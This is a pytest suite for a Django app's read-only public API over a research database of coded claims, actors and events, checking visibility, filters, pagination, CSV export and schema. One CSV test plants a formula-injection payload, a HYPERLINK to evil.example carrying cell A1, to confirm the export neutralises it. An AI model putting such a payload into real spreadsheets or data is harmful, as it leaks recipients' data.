"""The read-only JSON API at /api/.

What the public sees (approved records, links whose ends are all approved, never an
internal field) in JSON pages, detail views and CSV; the pages' filters; keyset pages
that visit every record once and answer a forged cursor with 404; bounded queries; the
OpenAPI schema; the login setting and the refusal of writes.
"""

from __future__ import annotations

import base64
import csv
import datetime
import io
import json
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from influence_db.coding import choices
from influence_db.coding.choices import Status
from influence_db.coding.models import Claim
from influence_db.exchange.datasets import INTERNAL_COLUMNS, MODEL_DATASETS
from influence_db.exchange.sql import Dialect
from tests import factories as f

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
HIDDEN_STATES = (Status.DRAFT, Status.SUBMITTED, Status.RETURNED)
# Every unapproved record carries "hidden" in its key, code, name and text; every record
# carries these internal strings. None of them may reach a response.
SECRET = "hidden"
NOTE = "INTERNAL-NOTE-7f3a"
COMMENT = "REVIEW-COMMENT-9c1d"
FORBIDDEN = (SECRET, NOTE.lower(), COMMENT.lower())

# For each endpoint: the fields that identify a row, in JSON and in CSV alike.
ENDPOINTS = {
    "claims": ("key",),
    "actors": ("key",),
    "events": ("key",),
    "sources": ("key",),
    "themes": ("key",),
    "assumptions": ("code",),
    "actor-relations": ("key",),
    "citations": ("target_type", "target", "source", "locator"),
    "claim-assumptions": ("claim", "assumption"),
    "claim-relations": ("claim", "relation_type", "other"),
    "aliases": ("actor", "name"),
    "source-links": ("citing", "cited"),
}
DETAIL_ENDPOINTS = ("claims", "actors", "events", "sources", "themes", "assumptions", "actor-relations")


# --- Reading responses -------------------------------------------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[dict[str, str]]:
    header, *rows = csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def csv_header(response) -> list[str]:
    return next(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


def identity(prefix: str, row: dict) -> tuple:
    # CSV writes an empty cell for nothing; JSON writes null.
    return tuple(row[field] or None for field in ENDPOINTS[prefix])


def all_pages(client, url: str) -> tuple[list[dict], list[bytes]]:
    """Every item of a list, following `next` links; and the raw pages."""
    items, pages = [], []
    while url:
        response = client.get(url)
        assert response.status_code == 200, response.content
        pages.append(response.content)
        data = response.json()
        items.extend(data["results"])
        url = data["next"]
    return items, pages


def keys(response) -> list[str]:
    assert response.status_code == 200, response.content
    return [item["key"] for item in response.json()["results"]]


def assert_nothing_internal(content: bytes) -> None:
    text = content.decode("utf-8-sig").lower()
    for secret in FORBIDDEN:
        assert secret not in text


# --- The world: approved records next to unapproved ones, linked every way -------------------------


def internal(**fields: object) -> dict:
    return {"notes": NOTE, "review_comment": COMMENT, **fields}


def approved(factory, **fields: object):
    return factory(status=Status.APPROVED, **internal(**fields))


def hidden_ones(factory, kind: str, **fields: object) -> dict[str, object]:
    """One unapproved record per state that is not approved."""
    return {
        state: factory(status=state, key=f"{SECRET}-{kind}-{state}", **internal(**fields)) for state in HIDDEN_STATES
    }


@pytest.fixture
def world():
    hidden_source = hidden_ones(f.SourceFactory, "source", title="Hidden source")
    hidden_actor = hidden_ones(f.ActorFactory, "actor", name="Hidden actor")
    hidden_event = hidden_ones(f.EventFactory, "event", title="Hidden event")
    hidden_theme = hidden_ones(f.ThemeFactory, "theme", name="Hidden theme")
    hidden_claim = hidden_ones(f.ClaimFactory, "claim", statement="Hidden claim")
    hidden_assumption = {
        state: f.TheoryAssumptionFactory(
            status=state, key=f"{SECRET}-assumption-{state}", code=f"SR-HIDDEN-{state.upper()}", **internal()
        )
        for state in HIDDEN_STATES
    }
    draft = Status.DRAFT

    doc = approved(f.SourceFactory, key="zimmt-2020", is_coded_document=True)
    news = approved(f.SourceFactory, key="irna-2020-06-03", csl_type=choices.CslType.ARTICLE_NEWSPAPER)
    book = approved(f.SourceFactory, key="waltz-1979", csl_type=choices.CslType.BOOK)
    f.SourceLinkFactory(citing=doc, cited=news)
    f.SourceLinkFactory(citing=doc, cited=hidden_source[draft])
    f.SourceLinkFactory(citing=hidden_source[Status.SUBMITTED], cited=doc)

    protest = approved(f.ThemeFactory, key="anti-iranian-protest", source=doc)
    orphan_theme = approved(f.ThemeFactory, key="militia-politics", source=hidden_source[draft])

    anarchy = approved(f.TheoryAssumptionFactory, key="sr-anarchy", code="SR-ANARCHY", source=book)
    self_help = approved(f.TheoryAssumptionFactory, key="sr-self-help", code="SR-SELF-HELP", parent=anarchy)
    balance = approved(
        f.TheoryAssumptionFactory,
        key="sr-balance",
        code="SR-BALANCE",
        parent=hidden_assumption[draft],
        source=hidden_source[Status.RETURNED],
    )

    irgc = approved(f.ActorFactory, key="irgc", name="Islamic Revolutionary Guard Corps")
    qods = approved(f.ActorFactory, key="qods-force", name="Qods Force", parent=irgc)
    kh = approved(f.ActorFactory, key="kataib-hezbollah", name="Kataib Hezbollah", parent=hidden_actor[draft])
    f.ActorAliasFactory(actor=qods, name="Quds Force")
    f.ActorAliasFactory(actor=hidden_actor[draft], name="Hidden alias")
    qods_in_irgc = f.ActorRelationFactory(key="qods-subunit-irgc", subject=qods, object=irgc, notes=NOTE)
    f.ActorRelationFactory(key=f"kh-{SECRET}", subject=kh, object=hidden_actor[Status.SUBMITTED], notes=NOTE)

    attack = approved(f.EventFactory, key="rocket-attack-2020-03-11")
    f.EventParticipantFactory(event=attack, actor=qods, role=choices.ParticipantRole.ACCUSED)
    f.EventParticipantFactory(event=attack, actor=hidden_actor[draft], role=choices.ParticipantRole.INITIATOR)
    f.EventParticipantFactory(event=hidden_event[draft], actor=qods)

    c1 = approved(f.ClaimFactory, key="iran-preserves-pmf", kind=choices.ClaimKind.INTENT)
    c2 = approved(
        f.ClaimFactory,
        key="qods-reports-talks",
        kind=choices.ClaimKind.FACTUAL,
        modality=choices.Modality.REPORTS,
        attributed_to=qods,
    )
    c3 = approved(
        f.ClaimFactory,
        key="militias-deny-attack",
        modality=choices.Modality.REPORTS,
        attributed_to=hidden_actor[Status.RETURNED],
    )
    c1.themes.set([protest, hidden_theme[draft]])
    c1.actors.set([qods, hidden_actor[draft]])
    c1.events.set([attack, hidden_event[draft]])
    hidden_claim[draft].themes.set([protest])

    def cite(**fields: object):
        return f.CitationFactory(**{"claim": None, "quote": "Iran is determined.", **fields})

    cite(claim=c1, source=doc, locator="3")
    cite(claim=c1, source=hidden_source[draft], locator="4", quote="HIDDEN quote")
    cite(claim=c2, source=doc, locator="5", as_cited_in=hidden_source[Status.SUBMITTED])
    cite(claim=hidden_claim[draft], source=doc, locator="6", quote="Hidden claim's quote")
    cite(event=attack, source=news, locator="1")
    cite(event=attack, source=hidden_source[draft], locator="2", quote="HIDDEN event quote")
    cite(event=hidden_event[draft], source=news, locator="7", quote="Hidden event's quote")
    cite(actor_relation=qods_in_irgc, source=doc, locator="8")

    f.ClaimAssumptionFactory(claim=c1, assumption=self_help, relation=choices.AssumptionRelation.SUPPORTS)
    f.ClaimAssumptionFactory(claim=c1, assumption=hidden_assumption[draft], rationale="Hidden rationale")
    f.ClaimAssumptionFactory(claim=hidden_claim[draft], assumption=anarchy, rationale="Hidden rationale")
    f.ClaimRelationFactory(claim=c1, other=c2)
    f.ClaimRelationFactory(claim=c1, other=hidden_claim[draft], note="Hidden note")
    f.ClaimRelationFactory(claim=hidden_claim[Status.SUBMITTED], other=c1, note="Hidden note")

    return SimpleNamespace(
        c1=c1,
        c2=c2,
        c3=c3,
        qods=qods,
        kh=kh,
        attack=attack,
        doc=doc,
        orphan_theme=orphan_theme,
        balance=balance,
        self_help=self_help,
        hidden_keys={
            "claims": [c.key for c in hidden_claim.values()],
            "actors": [a.key for a in hidden_actor.values()],
            "events": [e.key for e in hidden_event.values()],
            "sources": [s.key for s in hidden_source.values()],
            "themes": [t.key for t in hidden_theme.values()],
            "assumptions": [a.code for a in hidden_assumption.values()],
            "actor-relations": [f"kh-{SECRET}"],
        },
        expected={
            "claims": {(c1.key,), (c2.key,), (c3.key,)},
            "actors": {("irgc",), ("qods-force",), ("kataib-hezbollah",)},
            "events": {(attack.key,)},
            "sources": {(doc.key,), (news.key,), (book.key,)},
            "themes": {(protest.key,), (orphan_theme.key,)},
            "assumptions": {("SR-ANARCHY",), ("SR-SELF-HELP",), ("SR-BALANCE",)},
            "actor-relations": {("qods-subunit-irgc",)},
            "citations": {
                ("claim", c1.key, doc.key, "3"),
                ("claim", c2.key, doc.key, "5"),
                ("event", attack.key, news.key, "1"),
                ("actor-relation", "qods-subunit-irgc", doc.key, "8"),
            },
            "claim-assumptions": {(c1.key, "SR-SELF-HELP")},
            "claim-relations": {(c1.key, "corroborates", c2.key)},
            "aliases": {("qods-force", "Quds Force")},
            "source-links": {(doc.key, news.key)},
        },
    )


# --- What the public sees ---------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ENDPOINTS)
def test_json_list_shows_every_approved_row_and_nothing_else(anonymous_client, world, prefix):
    items, pages = all_pages(anonymous_client, f"/api/{prefix}/?page_size=2")
    found = [identity(prefix, item) for item in items]
    assert sorted(found) == sorted(world.expected[prefix])  # each exactly once
    for page in pages:
        assert_nothing_internal(page)


@pytest.mark.parametrize("prefix", ENDPOINTS)
def test_csv_list_shows_every_approved_row_and_nothing_else(anonymous_client, world, prefix):
    response = anonymous_client.get(f"/api/{prefix}/?format=csv")
    assert response.status_code == 200
    assert response.streaming
    rows = csv_rows(response)
    assert sorted(identity(prefix, row) for row in rows) == sorted(world.expected[prefix])
    assert_nothing_internal(body(anonymous_client.get(f"/api/{prefix}/?format=csv")))
    assert not INTERNAL_COLUMNS & set(csv_header(anonymous_client.get(f"/api/{prefix}/?format=csv")))


@pytest.mark.parametrize("prefix", DETAIL_ENDPOINTS)
def test_every_approved_record_has_a_detail_without_internal_fields(anonymous_client, world, prefix):
    lookup = ENDPOINTS[prefix][0]
    for (key,) in world.expected[prefix]:
        response = anonymous_client.get(f"/api/{prefix}/{key}/")
        assert response.status_code == 200
        assert response.json()[lookup] == key
        assert_nothing_internal(response.content)
        one_row = anonymous_client.get(f"/api/{prefix}/{key}/?format=csv")
        assert [row[lookup] for row in csv_rows(one_row)] == [key]
        assert_nothing_internal(body(anonymous_client.get(f"/api/{prefix}/{key}/?format=csv")))


@pytest.mark.parametrize("prefix", [p for p in DETAIL_ENDPOINTS if p != "actor-relations"])
def test_unapproved_and_unknown_keys_are_404_in_json(anonymous_client, world, prefix):
    for key in [*world.hidden_keys[prefix], "no-such-key"]:
        for suffix in ("", "?format=csv"):
            response = anonymous_client.get(f"/api/{prefix}/{key}/{suffix}")
            assert response.status_code == 404
            assert response["Content-Type"] == "application/json"
            assert "detail" in response.json()


def test_relation_to_an_unapproved_actor_has_no_detail(anonymous_client, world):
    assert anonymous_client.get(f"/api/actor-relations/kh-{SECRET}/").status_code == 404


def test_links_have_no_detail_view(anonymous_client, world):
    # Links without a key are lists only: a detail would need a database id in its URL.
    for prefix in ("citations", "claim-assumptions", "claim-relations", "aliases", "source-links"):
        assert anonymous_client.get(f"/api/{prefix}/1/").status_code == 404


def test_claim_shows_only_approved_links(anonymous_client, world):
    data = anonymous_client.get(f"/api/claims/{world.c1.key}/").json()
    assert data["url"] == f"https://testserver/api/claims/{world.c1.key}/"
    assert data["page"] == f"/claims/{world.c1.key}/"
    assert data["themes"] == ["anti-iranian-protest"]
    assert data["actors"] == ["qods-force"]
    assert data["events"] == [world.attack.key]
    assert data["citations"] == [
        {
            "source": "zimmt-2020",
            "locator_type": "page",
            "locator": "3",
            "quote": "Iran is determined.",
            "as_cited_in": None,
        }
    ]
    assert data["assumptions"] == [
        {
            "assumption": "SR-SELF-HELP",
            "relation": "supports",
            "attribution": "coder",
            "rationale": "Keeping allied militias armed is self-help under uncertainty.",
        }
    ]
    assert data["relations"] == [
        {
            "claim": world.c1.key,
            "relation_type": "corroborates",
            "other": world.c2.key,
            "note": "Both sources describe the same meeting.",
        }
    ]
    assert set(data) >= {"key", "statement", "kind", "modality", "attributed_to", "confidence", "period_start"}
    assert not set(data) & {"id", "notes", "status", "review_comment", "version", "created_at", "reviewed_by"}
    # Seen from the other end, the relation is the same triple.
    assert anonymous_client.get(f"/api/claims/{world.c2.key}/").json()["relations"] == data["relations"]


def test_attribution_and_secondary_citation_only_when_approved(anonymous_client, world):
    by_key = {c["key"]: c for c in anonymous_client.get("/api/claims/").json()["results"]}
    assert by_key[world.c2.key]["attributed_to"] == "qods-force"
    assert by_key[world.c3.key]["attributed_to"] is None
    assert by_key[world.c2.key]["citations"][0]["as_cited_in"] is None


def test_actor_shows_parent_aliases_relations_and_events_only_when_approved(anonymous_client, world):
    qods = anonymous_client.get("/api/actors/qods-force/").json()
    assert qods["page"] == "/actors/qods-force/"
    assert qods["parent"] == "irgc"
    assert qods["aliases"] == [{"name": "Quds Force", "alias_type": "acronym", "language": "en", "script": "Latn"}]
    assert [(r["key"], r["subject"], r["relation_type"], r["object"]) for r in qods["relations"]] == [
        ("qods-subunit-irgc", "qods-force", "subunit_of", "irgc")
    ]
    assert qods["events"] == [{"event": world.attack.key, "role": "accused"}]
    irgc = anonymous_client.get("/api/actors/irgc/").json()
    assert [r["key"] for r in irgc["relations"]] == ["qods-subunit-irgc"]
    kh = anonymous_client.get("/api/actors/kataib-hezbollah/").json()
    assert kh["parent"] is None
    assert kh["relations"] == []


def test_event_shows_approved_participants_and_citations(anonymous_client, world):
    data = anonymous_client.get(f"/api/events/{world.attack.key}/").json()
    assert data["page"] == f"/events/{world.attack.key}/"
    assert data["participants"] == [{"actor": "qods-force", "role": "accused"}]
    assert [(c["source"], c["locator"]) for c in data["citations"]] == [("irna-2020-06-03", "1")]


def test_source_shows_approved_links_both_ways(anonymous_client, world):
    doc = anonymous_client.get("/api/sources/zimmt-2020/").json()
    assert doc["page"] == "/sources/zimmt-2020/"
    assert doc["creators"] == [{"family": "Zimmt", "given": "Raz"}]
    assert [(link["citing"], link["cited"]) for link in doc["cites"]] == [("zimmt-2020", "irna-2020-06-03")]
    assert doc["cited_by"] == []
    news = anonymous_client.get("/api/sources/irna-2020-06-03/").json()
    assert [(link["citing"], link["cited"]) for link in news["cited_by"]] == [("zimmt-2020", "irna-2020-06-03")]


def test_theme_and_assumption_name_only_approved_sources_and_parents(anonymous_client, world):
    theme = anonymous_client.get(f"/api/themes/{world.orphan_theme.key}/").json()
    assert theme["source"] is None
    assert theme["page"] == f"/claims/?theme={world.orphan_theme.key}"
    balance = anonymous_client.get("/api/assumptions/SR-BALANCE/").json()
    assert (balance["parent"], balance["source"]) == (None, None)
    assert balance["page"] == "/assumptions/SR-BALANCE/"
    self_help = anonymous_client.get("/api/assumptions/SR-SELF-HELP/").json()
    assert self_help["parent"] == "SR-ANARCHY"
    assert anonymous_client.get("/api/assumptions/SR-ANARCHY/").json()["source"] == "waltz-1979"


# --- Filters ----------------------------------------------------------------------------------


@pytest.fixture
def filter_world():
    theme_a, theme_b = approved(f.ThemeFactory, key="theme-a"), approved(f.ThemeFactory, key="theme-b")
    x, y = (approved(f.TheoryAssumptionFactory, code=code) for code in ("SR-X", "SR-Y"))
    p, q = approved(f.ActorFactory, key="actor-p"), approved(f.ActorFactory, key="actor-q")
    src_1, src_2 = approved(f.SourceFactory, key="src-1"), approved(f.SourceFactory, key="src-2")
    one = approved(
        f.ClaimFactory,
        key="one",
        statement="Militias fired rockets at the embassy.",
        kind=choices.ClaimKind.FACTUAL,
        modality=choices.Modality.ASSERTS,
        period_start=datetime.date(2014, 1, 1),
        period_end=datetime.date(2014, 12, 31),
    )
    two = approved(
        f.ClaimFactory,
        key="two",
        statement="Iran's consulate was attacked.",
        kind=choices.ClaimKind.CAUSAL,
        modality=choices.Modality.REPORTS,
        attributed_to=q,
        period_start=datetime.date(2019, 10, 1),
        period_end=datetime.date(2020, 7, 14),
    )
    three = approved(
        f.ClaimFactory,
        key="three",
        statement="Iran will keep its allies armed.",
        kind=choices.ClaimKind.PREDICTIVE,
        modality=choices.Modality.PREDICTS,
        period_start=datetime.date(2021, 1, 1),
        period_end=None,
    )
    one.themes.set([theme_a])
    two.themes.set([theme_b])
    one.actors.set([p])
    f.CitationFactory(claim=one, source=src_1, quote="Katyushas landed in the Green Zone.")
    f.CitationFactory(claim=two, source=src_2, quote="Protesters burned the consulate in Najaf.")
    f.CitationFactory(claim=three, source=src_1, quote="A lever kept in reserve.")
    f.ClaimAssumptionFactory(claim=one, assumption=x, relation=choices.AssumptionRelation.SUPPORTS)
    f.ClaimAssumptionFactory(claim=two, assumption=x, relation=choices.AssumptionRelation.CHALLENGES)
    f.ClaimAssumptionFactory(claim=three, assumption=y, relation=choices.AssumptionRelation.SUPPORTS)
    approved(f.ThemeFactory, key="unused-theme")
    f.ThemeFactory(key=f"{SECRET}-theme", status=Status.SUBMITTED)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["one", "three", "two"]),
        ("theme=theme-a", ["one"]),
        ("theme=unused-theme", []),
        ("assumption=SR-X", ["one", "two"]),
        ("assumption=SR-X&relation=supports", ["one"]),
        ("assumption=SR-X&relation=challenges", ["two"]),
        ("relation=supports", ["one", "three"]),
        ("actor=actor-p", ["one"]),  # named in the claim
        ("actor=actor-q", ["two"]),  # the claim is attributed to it
        ("source=src-1", ["one", "three"]),
        ("kind=causal", ["two"]),
        ("modality=predicts", ["three"]),
        ("period_from=2019", ["three", "two"]),
        ("period_to=2015", ["one"]),
        ("period_from=2015&period_to=2020", ["two"]),
        ("q=rockets", ["one"]),  # the statement
        ("q=najaf", ["two"]),  # a citation's quote
        ("q=iran&kind=predictive", ["three"]),
    ],
)
def test_claim_filters_narrow_json_and_csv_alike(anonymous_client, filter_world, query, expected):
    assert keys(anonymous_client.get(f"/api/claims/?{query}")) == expected
    rows = csv_rows(anonymous_client.get(f"/api/claims/?{query}&format=csv"))
    assert sorted(row["key"] for row in rows) == expected


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ("theme=no-such-theme", "theme", "No approved theme has the key “no-such-theme”."),
        (f"theme={SECRET}-theme", "theme", f"No approved theme has the key “{SECRET}-theme”."),
        ("assumption=SR-NOPE", "assumption", "No approved assumption has the code “SR-NOPE”."),
        ("actor=nobody", "actor", "No approved actor has the key “nobody”."),
        ("source=nothing", "source", "No approved source has the key “nothing”."),
        ("period_from=20x4", "period_from", "Enter a year, such as 2014."),
        ("period_to=2014.5", "period_to", None),
        ("kind=rumour", "kind", None),
    ],
)
def test_a_bad_filter_value_is_a_400_naming_the_filter(anonymous_client, filter_world, query, field, message):
    for suffix in ("", "&format=csv"):
        response = anonymous_client.get(f"/api/claims/?{query}{suffix}")
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        errors = response.json()
        assert list(errors) == [field]
        if message:
            assert errors[field] == [message]


def test_link_lists_filter_by_their_ends(anonymous_client, filter_world):
    citations = anonymous_client.get("/api/citations/?source=src-1").json()["results"]
    assert sorted(c["target"] for c in citations) == ["one", "three"]
    links = anonymous_client.get("/api/claim-assumptions/?assumption=SR-X&relation=challenges").json()["results"]
    assert [(link["claim"], link["assumption"]) for link in links] == [("two", "SR-X")]
    assert anonymous_client.get("/api/citations/?claim=nope").status_code == 400


def test_actor_search_finds_aliases(anonymous_client, world):
    assert keys(anonymous_client.get("/api/actors/?q=quds")) == ["qods-force"]
    assert keys(anonymous_client.get(f"/api/actors/?q={SECRET}")) == []


# --- Pagination ---------------------------------------------------------------------------------


def test_following_next_visits_every_claim_once(anonymous_client):
    wanted = sorted(approved(f.ClaimFactory).key for _ in range(7))
    for state in HIDDEN_STATES:
        f.ClaimFactory(status=state)
    items, _ = all_pages(anonymous_client, "/api/claims/?page_size=2")
    assert [item["key"] for item in items] == wanted


def test_following_next_visits_every_event_once_with_ties_and_undated(anonymous_client):
    same_day = datetime.date(2020, 1, 3)
    events = [approved(f.EventFactory, date_start=same_day) for _ in range(3)]
    events += [approved(f.EventFactory, date_start=None, date_as_written="undated") for _ in range(3)]
    events += [approved(f.EventFactory, date_start=datetime.date(2019, 12, 31))]
    items, _ = all_pages(anonymous_client, "/api/events/?page_size=2")
    in_order = sorted(events, key=lambda e: (e.date_start or datetime.date.max, e.key))
    assert [item["key"] for item in items] == [e.key for e in in_order]


def test_following_next_visits_every_actor_once_with_equal_names(anonymous_client):
    actors = [approved(f.ActorFactory, name="Same name") for _ in range(5)]
    items, _ = all_pages(anonymous_client, "/api/actors/?page_size=2")
    assert sorted(item["key"] for item in items) == sorted(a.key for a in actors)
    assert len(items) == 5


def cursor(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


INVALID_CURSOR = {"detail": "This page link is not valid: start again from the first page."}


@pytest.mark.parametrize(
    ("prefix", "value"),
    [
        ("claims", "%%%"),
        ("claims", "bm90LWEtY3Vyc29y"),  # "not-a-cursor"
        ("claims", "bm90IGJhc2U2NA"),  # not padded base64
        ("claims", cursor("o=1&r=x&p=a")),
        ("events", cursor("o=0&r=0&p=not-a-date")),
        ("events", cursor("o=0&r=0&p=2020-13-45")),
        ("events", cursor("p=99999-01-01")),
        ("citations", cursor("p=abc")),
    ],
)
def test_a_forged_cursor_is_a_404_not_a_500(anonymous_client, world, prefix, value):
    response = anonymous_client.get(f"/api/{prefix}/", {"cursor": value})
    assert response.status_code == 404
    assert response.json() == INVALID_CURSOR


@pytest.mark.parametrize(
    ("prefix", "value"),
    [
        ("actors", cursor("p=\x00")),  # PostgreSQL refuses NUL in text
        ("actors", cursor("p=" + "z" * 10_000)),
        ("citations", cursor("p=99999999999999999999999")),  # beyond a 64-bit id
        ("claims", cursor("o=999999999&p=a")),
    ],
)
def test_an_odd_but_well_formed_cursor_is_never_a_500(anonymous_client, world, prefix, value):
    response = anonymous_client.get(f"/api/{prefix}/", {"cursor": value})
    assert response.status_code in (200, 404)
    if response.status_code == 404:
        assert response.json() == INVALID_CURSOR


def test_page_size_is_capped(anonymous_client):
    Claim.objects.bulk_create(
        Claim(key=f"claim-{n:03d}", statement=f"Claim ({n})", kind="factual", status=Status.APPROVED)
        for n in range(205)
    )
    data = anonymous_client.get("/api/claims/?page_size=100000").json()
    assert len(data["results"]) == 200
    assert data["next"]


# --- CSV ------------------------------------------------------------------------------------------


def test_csv_is_a_formula_safe_attachment_with_public_columns(anonymous_client):
    statement = '=HYPERLINK("https://evil.example/?q="&A1,"click")'
    claim = approved(f.ClaimFactory, key="formula", statement=statement)
    response = anonymous_client.get("/api/claims/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="claims.csv"'
    content = body(response)
    assert not content.startswith(BOM)
    public_header = MODEL_DATASETS[Claim].header(Dialect(connection.vendor), public=True)
    assert csv_header(anonymous_client.get("/api/claims/?format=csv")) == public_header
    assert "notes" not in public_header and "review_comment" not in public_header
    [row] = csv_rows(anonymous_client.get("/api/claims/?format=csv"))
    assert row["statement"] == "'" + statement
    # JSON is not a spreadsheet: it carries the statement as written.
    assert anonymous_client.get(f"/api/claims/{claim.key}/").json()["statement"] == statement


def test_csv_with_bom_for_excel(anonymous_client, world):
    response = anonymous_client.get("/api/actors/?format=csv&bom=1")
    content = body(response)
    assert content.startswith(BOM)
    assert content[len(BOM) :].startswith(b"key,")


def test_csv_is_every_matching_row_not_a_page(anonymous_client, settings):
    settings.PUBLIC_PAGE_SIZE = 2
    for _ in range(5):
        approved(f.ClaimFactory, kind=choices.ClaimKind.CAUSAL)
    approved(f.ClaimFactory, kind=choices.ClaimKind.FACTUAL)
    assert len(anonymous_client.get("/api/claims/").json()["results"]) == 2
    assert len(csv_rows(anonymous_client.get("/api/claims/?format=csv&kind=causal&cursor=garbage"))) == 5


def test_csv_by_accept_header_and_by_suffix(anonymous_client, world):
    response = anonymous_client.get("/api/sources/", headers={"Accept": "text/csv"})
    assert response["Content-Disposition"] == 'attachment; filename="sources.csv"'
    response = anonymous_client.get("/api/sources.csv")
    assert sorted(row["key"] for row in csv_rows(response)) == ["irna-2020-06-03", "waltz-1979", "zimmt-2020"]


def test_detail_csv_is_one_named_row(anonymous_client, world):
    response = anonymous_client.get("/api/actors/qods-force/?format=csv")
    assert response["Content-Disposition"] == 'attachment; filename="actors-qods-force.csv"'
    assert [row["key"] for row in csv_rows(response)] == ["qods-force"]


# --- Bounded queries ---------------------------------------------------------------------------


def rich_claims(n: int) -> None:
    source = approved(f.SourceFactory)
    for _ in range(n):
        claim = approved(f.ClaimFactory, attributed_to=approved(f.ActorFactory), modality=choices.Modality.REPORTS)
        claim.themes.set([approved(f.ThemeFactory), approved(f.ThemeFactory)])
        for _ in range(2):
            f.CitationFactory(claim=claim, source=source, as_cited_in=approved(f.SourceFactory))
            f.ClaimAssumptionFactory(claim=claim, assumption=approved(f.TheoryAssumptionFactory))


def rich_actors(n: int) -> None:
    parent = None
    for _ in range(n):
        actor = approved(f.ActorFactory, parent=parent)
        parent = parent or actor
        f.ActorAliasFactory(actor=actor)
        f.ActorAliasFactory(actor=actor)


def rich_events(n: int) -> None:
    for _ in range(n):
        event = approved(f.EventFactory)
        for _ in range(2):
            f.EventParticipantFactory(event=event, actor=approved(f.ActorFactory))


def queries_for(client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        assert response.status_code == 200
    return len(captured)


# A page costs the query for its rows plus one per prefetched list, whatever its length.
@pytest.mark.parametrize(
    ("prefix", "make", "queries"),
    [("claims", rich_claims, 4), ("actors", rich_actors, 2), ("events", rich_events, 2)],
)
def test_a_list_costs_the_same_queries_for_5_or_30_records(
    anonymous_client, django_assert_num_queries, prefix, make, queries
):
    make(5)
    with django_assert_num_queries(queries):
        assert len(anonymous_client.get(f"/api/{prefix}/").json()["results"]) == 5
    make(25)
    with django_assert_num_queries(queries):
        assert len(anonymous_client.get(f"/api/{prefix}/").json()["results"]) == 30


def test_details_cost_a_fixed_number_of_queries(anonymous_client, world, django_assert_max_num_queries):
    for url in (
        f"/api/claims/{world.c1.key}/",
        "/api/actors/qods-force/",
        f"/api/events/{world.attack.key}/",
        "/api/sources/zimmt-2020/",
    ):
        with django_assert_max_num_queries(8):
            anonymous_client.get(url)


@pytest.mark.parametrize("prefix", [p for p in ENDPOINTS if p not in ("claims", "actors", "events")])
def test_other_lists_do_not_query_per_row(anonymous_client, world, prefix):
    few = queries_for(anonymous_client, f"/api/{prefix}/")
    rich_claims(3)
    rich_actors(3)
    rich_events(3)
    for _ in range(3):
        f.ActorRelationFactory(subject=approved(f.ActorFactory), object=approved(f.ActorFactory))
        f.SourceLinkFactory(citing=approved(f.SourceFactory), cited=approved(f.SourceFactory))
        f.ClaimRelationFactory(claim=approved(f.ClaimFactory), other=approved(f.ClaimFactory))
    assert queries_for(anonymous_client, f"/api/{prefix}/") == few


# --- Schema ---------------------------------------------------------------------------------------


def test_schema_is_an_openapi_3_document(anonymous_client):
    response = anonymous_client.get("/api/schema/?format=json")
    assert response.status_code == 200
    schema = json.loads(response.content)
    assert schema["openapi"].startswith("3.")
    assert "/api/claims/" in schema["paths"]
    assert "/api/assumptions/{code}/" in schema["paths"]
    assert "/api/citations/{id}/" not in schema["paths"]
    parameters = {p["name"] for p in schema["paths"]["/api/claims/"]["get"]["parameters"]}
    assert {"cursor", "page_size", "theme", "assumption", "period_from", "q", "format", "bom"} <= parameters
    assert set(schema["paths"]["/api/claims/"]["get"]["responses"]["200"]["content"]) == {
        "application/json",
        "text/csv",
    }
    claim = schema["components"]["schemas"]["Claim"]["properties"]
    assert not set(claim) & {"id", "notes", "status", "review_comment", "version"}


def test_schema_generates_without_warnings(tmp_path):
    call_command("spectacular", "--validate", "--fail-on-warn", "--file", str(tmp_path / "schema.yml"))
    assert "/api/claims/" in (tmp_path / "schema.yml").read_text()


# --- Who may read, and nobody writes -----------------------------------------------------------------


def test_login_required_setting_closes_the_api_to_visitors(anonymous_client, viewer_client, world, settings):
    settings.PUBLIC_REQUIRE_LOGIN = True
    for url in ("/api/", "/api/claims/", f"/api/claims/{world.c1.key}/", "/api/claims/?format=csv", "/api/schema/"):
        response = anonymous_client.get(url)
        assert response.status_code in (401, 403), url
        assert_nothing_internal(response.content)
        assert viewer_client.get(url).status_code == 200, url


@pytest.mark.parametrize("client_name", ["anonymous_client", "coder_client", "supervisor_client"])
def test_nobody_writes_through_the_api(request, world, client_name):
    client = request.getfixturevalue(client_name)
    detail = f"/api/claims/{world.c1.key}/"
    for method, url in [
        ("post", "/api/claims/"),
        ("put", detail),
        ("patch", detail),
        ("delete", detail),
        ("post", "/api/citations/"),
        ("delete", "/api/actor-relations/qods-subunit-irgc/"),
    ]:
        response = getattr(client, method)(url, data={"statement": "changed"}, content_type="application/json")
        assert response.status_code in (403, 405), (method, url)
    world.c1.refresh_from_db()
    assert world.c1.statement != "changed"
    assert Claim.objects.filter(key=world.c1.key).exists()
